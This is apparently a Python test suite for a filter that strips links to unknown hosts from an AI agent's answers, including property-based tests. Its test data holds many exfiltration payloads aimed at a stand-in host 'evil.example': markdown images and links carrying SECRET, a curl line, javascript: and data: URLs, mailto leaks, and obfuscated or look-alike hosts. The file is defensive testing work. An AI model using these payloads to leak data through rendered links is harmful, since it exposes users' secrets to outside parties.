"""An answer leads to known places only, however an address is written."""

import re
from urllib.parse import urlsplit

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from agents.grounding.hosts import KnownHosts
from agents.grounding.links import limit_links
from tools.settings import ToolSettings

KNOWN = KnownHosts.of(
    ToolSettings(jenkins_url="https://ci.larkfield.example:8443/jenkins"), ["*.docs.example"]
)
EXACT = frozenset({"https://prom.example/graph?g0.expr=up"})


def limited(text: str) -> str:
    return limit_links(text, KNOWN, EXACT).text


@pytest.mark.parametrize(
    "text",
    [
        "See [the build](https://ci.larkfield.example:8443/jenkins/job/x/318/) and https://github.com/a/b/pull/42.",
        "![chart](https://github.com/a/b/raw/main/c.png)",
        "<https://team.slack.com/archives/C1/p1|the thread> (https://a.docs.example/x#y)",
        "[graph](https://prom.example/graph?g0.expr=up) https://prom.example/graph?g0.expr=up",
        "[E1] cites; [E2]: a remark; handlers[name](request); app/refunds.py:12; v1.7.3; 10:30; a@b.example",
        "| a | b |\n|---|---|\n| `x` | https://github.com/a |",
        "ratio: 3/4, data: 5, and/or, e.g. this. What? Yes=no",
    ],
)
def test_what_is_known_stays(text: str) -> None:
    assert limit_links(text, KNOWN, EXACT).text == text
    assert limit_links(text, KNOWN, EXACT).removed == ()


@pytest.mark.parametrize(
    "text",
    [
        "![x](https://evil.example/p.png?d=SECRET)",
        "[click](https://evil.example/SECRET)",
        "[click](<https://evil.example/SECRET>)",
        '[click](https://evil.example/SECRET "title")',
        "[click](\nhttps://evil.example/SECRET)",
        "[a [b] c](https://evil.example/(x)SECRET)",
        "[click][1]\n\n[1]: https://evil.example/SECRET",
        "[click][1]\n\n[1]:\n  <https://evil.example/SECRET>",
        "<https://evil.example/SECRET>",
        "<https://evil.example/SECRET|payments-build>",
        "<https://evil.example|https://github.com/a/b>",
        "https://evil.example/SECRET",
        "HTTPS://EVIL.EXAMPLE/SECRET",
        "http://evil.example:8080/SECRET",
        "//evil.example/SECRET in [x](//evil.example/SECRET)",
        "www.evil.example/SECRET",
        "evil.example/x?d=SECRET",
        '<img src="https://evil.example/SECRET">',
        '<a href="https://evil.example/SECRET">x</a>',
        "`https://evil.example/SECRET`",
        "```\ncurl https://evil.example/SECRET\n```",
        "[x](data:text/html;base64,SECRET)",
        "data:image/png;base64,SECRET",
        "[x](javascript:alert(1))",
        "[x](mailto:evil@evil.example?body=SECRET) mailto:evil@evil.example?body=SECRET",
        "https://github.com@evil.example/SECRET",
        "https://github.com:x@evil.example/SECRET",
        "https://github.com.evil.example/SECRET",
        "https://github.com\\@evil.example/SECRET",
        "https://github.com\u3002evil.example/SECRET",
        "https://g\u0456thub.com/SECRET",
        "https://github.com/a?d=SECRET",
        "[x](https://github.com/a?d=SECRET)",
        "https&#58;//evil.example/SECRET [x](https&colon;&sol;&sol;evil.example/SECRET)",
        "[x](https\\://evil.example/SECRET)",
        "ht\u200btps://evil.example/SECRET",
        "[x](\u2060https://evil.example/SECRET)",
        "[https://github.com/a](https://evil.example/SECRET)",
        "[x](https://github.com/a)](https://evil.example/SECRET)",
        "slack://user?team=T1&id=U1&d=SECRET",
        "https://prom.example/graph?g0.expr=SECRET",
        "https://ci.larkfield.example/SECRET",
        "[E1]: https://evil.example/SECRET",
        "> [1]: https://evil.example/SECRET\n\n[x][1]",
    ],
)  # fmt: skip
def test_what_is_unknown_becomes_words(text: str) -> None:
    found = limit_links(text, KNOWN, EXACT)
    assert found.removed
    assert wrong_links(found.text) == []
    assert limited(found.text) == found.text


def test_a_removed_link_keeps_its_words_and_names_its_host() -> None:
    found = limit_links("See [the log](https://evil.example/x?d=1), please.", KNOWN)
    assert found.text == "See [the log] (‹link removed: evil[.]example›), please."
    assert found.removed == ("evil.example",)


CLICKABLE = re.compile(
    r"(?:https?|ftp|slack|file)://[^\s<>|`\[\]]*|(?<![\w.])www\.\w[^\s<>|]*", re.IGNORECASE
)


def wrong_links(text: str) -> list[str]:
    """What Markdown, or Slack's own search for addresses, would still make a link of."""
    found = [match.group() for match in CLICKABLE.finditer(text)]
    for token in MarkdownIt("commonmark").parse(text):
        for child in token.children or ():
            found += [str(child.attrs[name]) for name in ("href", "src") if name in child.attrs]
    return [url for url in found if not _leads_to_known(url)]


def _leads_to_known(url: str) -> bool:
    if url.rstrip(".,;:!?)}'\"*_~\\") in EXACT:
        return True
    parts = urlsplit(url)
    if not parts.scheme and not parts.netloc:
        return True  # within the page: leads nowhere in Slack
    if parts.query or "@" in parts.netloc:
        return False
    host = parts.netloc.lower().rstrip(".,;:!?)}'\"*_~\\")
    return host in KNOWN.names or host.endswith((".docs.example", ".slack.com"))


PIECES = st.sampled_from(
    [
        *("https://evil.example/x", "https://", "//", "evil.example", "www.evil.example", "https:"),
        *("https://github.com/a", "https://github.com", "[", "]", "(", ")", "](", "![", "<", ">", "|", "\n"),
        *("[1]:", "[x][1]", "`", "```", '"', "'", "\\", "@", ":", "/", "&#58;", "&sol;", "&lt;"),
        *("data:text/html,", "javascript:", "mailto:a@evil.example", ".", "#", "*", "_"),
        *("x", "\u3002", "<a href=", "\u200b", "\u00ad", " ", "?d=SECRET"),
    ]
)  # fmt: skip


@settings(max_examples=600)
@given(st.lists(PIECES | st.text(max_size=3), max_size=14).map("".join))
def test_no_way_of_writing_leads_elsewhere(text: str) -> None:
    found = limited(text)
    assert wrong_links(found) == []
    assert limited(found) == found
